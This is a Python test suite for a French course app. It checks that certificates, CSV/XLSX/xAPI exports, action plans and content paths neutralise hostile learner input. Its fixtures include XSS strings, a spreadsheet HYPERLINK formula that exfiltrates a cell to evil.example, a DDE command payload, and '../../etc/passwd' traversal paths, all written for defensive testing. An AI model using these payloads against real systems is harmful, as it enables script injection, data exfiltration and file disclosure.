"""Hostile input in what the course writes: the certificate PDF, every export (CSV, XLSX, xAPI),
the action plan, and content paths that try to leave the content folder."""

from __future__ import annotations

import ast
import csv
import io
import json
import logging
import re
import tomllib
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import streamlit
from markdown_it import MarkdownIt
from pypdf import PdfReader

from course.certificates.issuing import certificate_data
from course.certificates.pdf import build_certificate_pdf
from course.content import glossary
from course.content.course import Course
from course.content.loader import load_course
from course.exercises import tweet
from course.journey.action_plan import action_plan
from course.journey.learners import NAME_MAX, InvalidIdentity, clean_name
from course.journey.progress import learner_progress
from course.logs import configure_logging
from course.results.exports.spreadsheets import results_csv, results_xlsx
from course.results.exports.xapi import clean_text, xapi_json
from course.results.group import GroupResults, load_group_results
from course.storage.store import Store
from course.text import fold
from course.workshop.questions import LiveQuestions
from course.workshop.workshops import Workshops
from tests.helpers import PROJECT_ROOT, shipped_course, valid_course
from tests.unit.group_data import ALL_TYPES, NOW, group_course, take
from views.page import URL_VALUE_MAX, url_value

NAMES = {
    "html-image": "<img src=x onerror=alert(1)> Zoé",
    "script": "<script>alert(1)</script> Zoé",
    "markdown-image": "![x](http://evil.example/x.png) Zoé",
    "markdown-link": "[clic](javascript:alert(1)) Zoé",
    "bidi-override": "Zoé \u202eevil\u202c Martin\u2066",
    "control": "Zoé\x00\x07\x1b[31m\r\n Martin",
    "arabic": "زينب الحسيني",
    "hebrew": "שרה לוי",
    "long": "Zoé " + "A" * 10_000,
}
# Text a spreadsheet would run: formulas, DDE, and the prefixes OWASP lists (tab, CR).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
FORMULA_START = re.compile(r"^\s*[=+\-@]|^[\t\r]")
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
render = MarkdownIt("commonmark").enable("table").enable("strikethrough").render


def typed_name(typed: str) -> str:
    """The name as the app keeps it: the form's NAME_MAX characters, then cleaned."""
    return clean_name(typed[:NAME_MAX])


# --- Names ----------------------------------------------------------------------------------


def test_a_name_longer_than_the_limit_is_refused_in_french() -> None:
    with pytest.raises(InvalidIdentity, match="trop long"):
        clean_name(NAMES["long"])


@pytest.mark.parametrize("typed", NAMES.values(), ids=NAMES.keys())
def test_the_certificate_prints_the_name_as_plain_text(store: Store, typed: str) -> None:
    course = valid_course()
    assert course.settings is not None
    learner, _ = store.learners.create(typed_name(typed))
    issued = store.certificates.issue(learner, "Formation aux réseaux sociaux", 90.0, ["Les bases"])
    pdf = build_certificate_pdf(certificate_data(issued, course.settings))
    text = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert not CONTROLS.search(text)
    printed = re.sub(r"\s+", "", text)
    name = re.sub(r"\s+", "", learner.name)
    assert name in printed or "…" in text  # a name too wide for its line is cut, visibly
    if "<" in typed or "[" in typed:
        assert name in printed  # markup is printed as the characters typed, never interpreted


# --- Exports ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def course() -> Course:
    return group_course()


def hostile_group(store: Store, course: Course) -> GroupResults:
    """Learners, display names, workshop titles and short answers that are all formulas or
    markup; each learner takes the exam (a wrong short answer) and answers a live question."""
    workshops, questions = Workshops(store), LiveQuestions(store)
    texts = [*FORMULAS, NAMES["bidi-override"], NAMES["html-image"]]
    for number, text in enumerate(texts):
        at = NOW + timedelta(minutes=number)
        learner, _ = store.learners.create(text)  # stored as given: the exports must still cope
        workshop = workshops.open_workshop(text, now=at)
        workshops.join(workshop.id, learner.id, text[:30], at)
        take(store, ALL_TYPES, learner, {"texte": text, "vrai-faux": True}, at)
        live = questions.launch(workshop.id, "bases", "q1", at)
        assert questions.answer(live.id, learner.id, 1, 0.0, 0.0, at + timedelta(seconds=5))
    return load_group_results(course, store, None)


def test_no_csv_cell_can_run_as_a_formula(store: Store, course: Course) -> None:
    text = results_csv(hostile_group(store, course)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if FORMULA_START.match(cell)]
    participants = {row[1] for row in rows[1:]}
    assert {"'" + formula for formula in FORMULAS} <= participants  # kept, as text
    workshops = {row[2] for row in rows[1:]}
    assert "'" + FORMULAS[0] in workshops


def test_no_workbook_cell_can_run_as_a_formula(store: Store, course: Course) -> None:
    book = openpyxl.load_workbook(io.BytesIO(results_xlsx(hostile_group(store, course))))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [value for value in texts if FORMULA_START.match(value)]
    shown = [row[1].value for row in book["Participants"].iter_rows(min_row=2)]
    assert "'" + FORMULAS[1][:30] in shown  # « Nom affiché », neutralised too
    answers = [str(c.value) for row in book["Réponses par question"].iter_rows() for c in row]
    assert [a for a in answers if a.startswith("'")]  # the commonest wrong answer, neutralised


def test_xapi_carries_learner_text_as_data(store: Store, course: Course) -> None:
    workshops, questions = Workshops(store), LiveQuestions(store)
    names = [typed_name(typed) for key, typed in NAMES.items() if key != "long"]
    for number, name in enumerate(names):  # names as the app stores them
        learner, _ = store.learners.create(name)
        answer = NAMES["markdown-link"]
        take(store, ALL_TYPES, learner, {"texte": answer}, NOW + timedelta(minutes=number))
        workshop = workshops.open_workshop(NAMES["script"])
        workshops.join(workshop.id, learner.id, name[:30])
        live = questions.launch(workshop.id, "bases", "q1")
        assert questions.answer(live.id, learner.id, 0, 1.0, 1.0)
    document = xapi_json(load_group_results(course, store, None))
    statements = json.loads(document)  # valid JSON whatever the learners typed
    actors = {s["actor"]["name"] for s in statements}
    assert actors == set(names) and not [a for a in actors if CONTROLS.search(a)]
    short = [s for s in statements if s["object"]["id"].endswith("/texte")]
    assert len(short) == len(names)
    assert {s["result"]["response"] for s in short} == {NAMES["markdown-link"]}  # text, as typed


# Control characters a database keeps (PostgreSQL text refuses only NUL), then what can only
# arrive in memory: NUL and lone UTF-16 surrogates (a str from a broken decoder or a test).
STORED_CONTROLS = "Zoé\x01\x07\x1b[31m\x7f\x85\x9f Martin"
IN_MEMORY = "\x00 \ud800 \udfff fin"
DISALLOWED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")
ESCAPED_CONTROL = re.compile(r"\\u00[01][0-9a-fA-F]|\\u007[fF]|\\u[dD][89a-fA-F]")


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("Zoé Martin", "Zoé Martin"),
        ("ligne 1\nligne 2\r\n\tfin", "ligne 1\nligne 2\r\n\tfin"),  # kept: JSON escapes them
        ("a\x00b\x07c\x1bd\x7fe\x85f", "abcdef"),
        ("a\ud800b\udfffc", "a\ufffdb\ufffdc"),  # a lone surrogate is marked, not hidden
        ("\ud83d\ude00", "😀"),  # the halves of a pair make their character again
        ("\ud83d\x00\ude00", "\ufffd\ufffd"),
    ],
)
def test_xapi_text_is_cleaned_of_what_consumers_refuse(text: str, clean: str) -> None:
    assert clean_text(text) == clean
    clean.encode("utf-8")  # strict


def test_xapi_is_valid_json_whatever_control_characters_the_texts_hold(
    store: Store, course: Course
) -> None:
    workshops, questions = Workshops(store), LiveQuestions(store)
    learner, _ = store.learners.create(STORED_CONTROLS)  # stored as given: the export must cope
    take(store, ALL_TYPES, learner, {"texte": STORED_CONTROLS}, NOW)
    workshop = workshops.open_workshop(STORED_CONTROLS, now=NOW)
    workshops.join(workshop.id, learner.id, STORED_CONTROLS[:30], NOW)
    live = questions.launch(workshop.id, "bases", "q1", NOW)
    assert questions.answer(live.id, learner.id, 1, 0.0, 0.0, NOW + timedelta(seconds=5))
    results = load_group_results(course, store, None)
    results.data.attempts[0].responses["texte"] = STORED_CONTROLS + IN_MEMORY
    (participant,) = results.participants
    named = replace(participant.record.learner, name=STORED_CONTROLS + IN_MEMORY)
    results = replace(
        results,
        participants=(replace(participant, record=replace(participant.record, learner=named)),),
    )
    document = xapi_json(results)
    text = document.decode("utf-8")  # strict: a lone surrogate would not even encode
    assert not ESCAPED_CONTROL.search(text)
    statements = json.loads(text)
    strings = list(_strings(statements))
    assert not [s for s in strings if DISALLOWED.search(s)]
    assert {s["actor"]["name"] for s in statements} == {"Zoé[31m Martin \ufffd \ufffd fin"}
    (short,) = [s for s in statements if s["object"]["id"].endswith("/texte")]
    typed = short["result"]["response"]  # as describe_response words it, spaces aside
    assert " ".join(typed.split()) == "Zoé[31m Martin \ufffd \ufffd fin"
    assert any("Zoé[31m Martin" in s for s in strings if s != typed)  # the workshop title


def _strings(value: Any) -> Iterator[str]:
    """Every text in a JSON document, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


# --- Action plan --------------------------------------------------------------------------------

TWEET = "\n".join(
    [
        "# Faux titre",
        "> fausse citation",
        "```",
        "<!-- commentaire -->",
        "![x](http://evil.example/x.png)",
        "[clic](javascript:alert(1)) <script>alert(1)</script>",
        "---",
        "| a | b |",
        "|---|---|",
        "1. liste",
    ]
)


def headings(markdown: str) -> list[str]:
    return re.findall(r"<h\d>(.*?)</h\d>", render(markdown))


@pytest.mark.parametrize("typed", NAMES.values(), ids=NAMES.keys())
def test_the_action_plan_shows_what_the_learner_typed_as_text(typed: str) -> None:
    course = shipped_course()
    progress = learner_progress(course, {}, {})
    name = typed_name(typed)
    plan = action_plan(name, progress, {"composer-tweet": tweet.compose_tweet(TWEET)}, date.today())
    benign = action_plan("Zoé", progress, {"composer-tweet": tweet.compose_tweet("Merci")}, NOW)
    rendered = render(plan)
    assert not re.search(r"<(img|script|a|table|hr|ol|pre|code)\b", rendered), rendered
    assert headings(plan) == headings(benign)  # no heading the learner wrote
    assert rendered.count("<blockquote>") == render(benign).count("<blockquote>")
    for line in TWEET.splitlines():  # each line is there, as typed
        assert line in re.sub(r"\\(.)", r"\1", plan)


# --- Content paths ----------------------------------------------------------------------------

ESCAPES = {
    "chart": "../../etc/passwd",
    "mockup": "../data/maquettes.yaml",
    "exercise": "../../course/__init__.py",
    "illustration": "../../../../etc/passwd",
}


@pytest.mark.parametrize(("directive", "target"), ESCAPES.items(), ids=ESCAPES.keys())
def test_a_directive_cannot_reach_outside_the_content_folder(
    course_copy: Callable[..., Path], directive: str, target: str
) -> None:
    root = course_copy()
    lesson = root / "lessons" / "02-mots.md"
    body = "Une image.\n" if directive == "illustration" else ""
    lesson.write_text(
        lesson.read_text(encoding="utf-8") + f"\n```{{{directive}}} {target}\n{body}```\n",
        encoding="utf-8",
    )
    course = load_course(root)
    problems = [e for e in course.errors if e.file == "lessons/02-mots.md"]
    assert len(problems) == 1 and target in problems[0].message
    assert re.search("inconnu|sort du dossier", problems[0].message)
    loaded: list[Any] = [*course.illustrations.values(), *course.charts, *course.mockups]
    assert not [item for item in loaded if "root:" in str(item) or "import" in str(item)]


# --- Bounded input, settings and logs (issue 15) ------------------------------------------------

VIEWS = [*sorted((PROJECT_ROOT / "views").rglob("*.py")), PROJECT_ROOT / "app.py"]
FREE_TEXT = {"text_input", "text_area", "chat_input"}


def _calls(path: Path) -> Iterator[ast.Call]:
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            yield node


def test_every_free_text_field_has_a_length_limit() -> None:
    """One visitor cannot send megabytes through a text field: Streamlit cuts each value to
    its `max_chars` on the server, whatever the browser sent."""
    unbounded = [
        f"{path.relative_to(PROJECT_ROOT)}:{call.lineno}"
        for path in VIEWS
        for call in _calls(path)
        if call.func.attr in FREE_TEXT  # type: ignore[attr-defined]
        and not any(k.arg == "max_chars" for k in call.keywords)
    ]
    assert unbounded == []


def test_every_number_field_has_bounds() -> None:
    unbounded = [
        f"{path.relative_to(PROJECT_ROOT)}:{call.lineno}"
        for path in VIEWS
        for call in _calls(path)
        if call.func.attr == "number_input"  # type: ignore[attr-defined]
        and not {"min_value", "max_value"} <= {k.arg for k in call.keywords}
    ]
    assert unbounded == []


def test_the_url_is_read_only_through_url_value_which_cuts_it() -> None:
    """A link may carry megabytes in `?terme=` or `?quiz=`: views read the URL only through
    views.page.url_value(), which keeps URL_VALUE_MAX characters."""
    reads = []
    for path in VIEWS:
        if path.name == "page.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for parent in ast.walk(tree):
            child = parent.value if isinstance(parent, ast.Attribute | ast.Subscript) else None
            is_params = isinstance(child, ast.Attribute) and child.attr == "query_params"
            reading = (
                isinstance(parent, ast.Attribute) and parent.attr in {"get", "to_dict", "get_all"}
            ) or (isinstance(parent, ast.Subscript) and isinstance(parent.ctx, ast.Load))
            if is_params and reading and isinstance(parent, ast.expr):
                reads.append(f"{path.relative_to(PROJECT_ROOT)}:{parent.lineno}")
    assert reads == []


def test_url_value_cuts_what_a_link_carries(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(streamlit, "query_params", {"terme": "é" * 5_000_000})
    assert url_value("terme") == "é" * URL_VALUE_MAX
    assert url_value("absent") == ""


def test_folding_huge_texts_keeps_no_memory() -> None:
    """fold() caches short texts (the glossary's, on each keystroke), never large ones: twenty
    different 100 000-character queries (4 MB with their folded forms, were they kept) leave
    nothing behind."""
    fold("réchauffe le cache")
    tracemalloc.start()
    try:
        before, _ = tracemalloc.get_traced_memory()
        for number in range(20):
            fold(f"{number} " + "é" * 100_000)
        after, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert after - before < 1_000_000


def test_a_glossary_search_reads_only_the_first_hundred_characters() -> None:
    terms = valid_course().glossary
    assert glossary.search(terms, "é" * 99) == []
    assert glossary.search(terms, "é" * 5_000_000) == []  # all 5 M once took 2.6 s to fold
    first = terms[0].term
    assert glossary.search(terms, first + " " * 200 + "rien") == glossary.search(terms, first)


def test_streamlit_security_settings_are_pinned() -> None:
    """XSRF and CORS on; what a visitor may send and the server may send bounded; no table
    download that would bypass the exports' formula neutralisation; no remote page icon."""
    settings = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text())
    server, client = settings["server"], settings["client"]
    assert server["enableXsrfProtection"] is True and server["enableCORS"] is True
    assert server["maxWidgetStateSize"] <= 1  # MB per message from a browser (default 25)
    assert server["maxUploadSize"] <= 1  # MB: the app has no file upload (default 200)
    assert server["maxMessageSize"] <= 16  # MB per message to a browser (default 200)
    assert client["disableDataExport"] is True
    config = next(
        call
        for call in _calls(PROJECT_ROOT / "app.py")
        if call.func.attr == "set_page_config"  # type: ignore[attr-defined]
    )
    icon = next(k.value for k in config.keywords if k.arg == "page_icon")
    assert not (isinstance(icon, ast.Constant) and str(icon.value).startswith(":material/"))


def test_an_exception_logged_by_a_page_is_redacted(course_logger: io.StringIO) -> None:
    """views/journey.py logs an OSError whose message quotes a file named after a code: the
    line and its traceback go through the `course` handler, with the code masked."""
    from views.journey import LOGGER

    try:
        raise OSError(f"Permission denied: 'static/badges/assertion-{SECRET_CODE}.json'")
    except OSError:
        LOGGER.exception("Open Badges documents not written for %s", SECRET_CODE)
    written = course_logger.getvalue()
    assert "Open Badges documents not written" in written and "Traceback" in written
    assert SECRET_CODE not in written
    assert written.count("[masqué]") == 2


SECRET_CODE = "K7QF-29XM"


@pytest.fixture
def course_logger() -> Iterator[io.StringIO]:
    """The `course` logger's own handler, writing to a buffer for the test."""
    logger = configure_logging({})
    handler = next(h for h in logger.handlers if getattr(h, "course_logs_handler", False))
    assert isinstance(handler, logging.StreamHandler)
    buffer = io.StringIO()
    previous = handler.setStream(buffer)
    yield buffer
    handler.setStream(previous)
